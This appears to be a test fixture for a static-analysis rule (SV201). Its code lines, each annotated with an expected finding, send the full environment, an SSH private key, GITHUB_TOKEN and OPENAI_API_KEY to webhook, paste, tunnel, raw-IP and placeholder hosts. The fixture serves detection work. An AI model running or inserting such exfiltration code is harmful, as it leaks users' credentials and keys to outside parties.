const https = require('https');
const os = require('os');
const fs = require('fs');
const path = require('path');

fetch('https://webhook.site/3f1c', { method: 'POST', body: JSON.stringify(process.env) }); // want "SV201: sends the whole environment to webhook.site"

const payload = { host: os.hostname(), env: { ...process.env } };
const req = https.request({ hostname: 'collect.example.net', method: 'POST', path: '/u' });
req.write(JSON.stringify(payload));                              // want "SV201: sends the whole environment to collect.example.net"
req.end();

const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
fetch(`https://203.0.113.9/k?d=${encodeURIComponent(key)}`);     // want "SV201: sends SSH keys .*raw IP"

fetch('https://paste.example.com/api', { headers: { 'X-Token': process.env.GITHUB_TOKEN } }); // want "SV201: .*GITHUB_TOKEN.*not the vendor"
fetch('https://abc123.ngrok-free.app/t', { method: 'POST', body: process.env.OPENAI_API_KEY }); // want "SV201: sends OPENAI_API_KEY to .*tunnel"

function report(data) {
  return fetch('https://telemetry.example.dev/v1/collect', { method: 'POST', body: JSON.stringify(data) }); // want "SV201: sends the whole environment to telemetry.example.dev"
}
report({ ...process.env, ts: Date.now() });
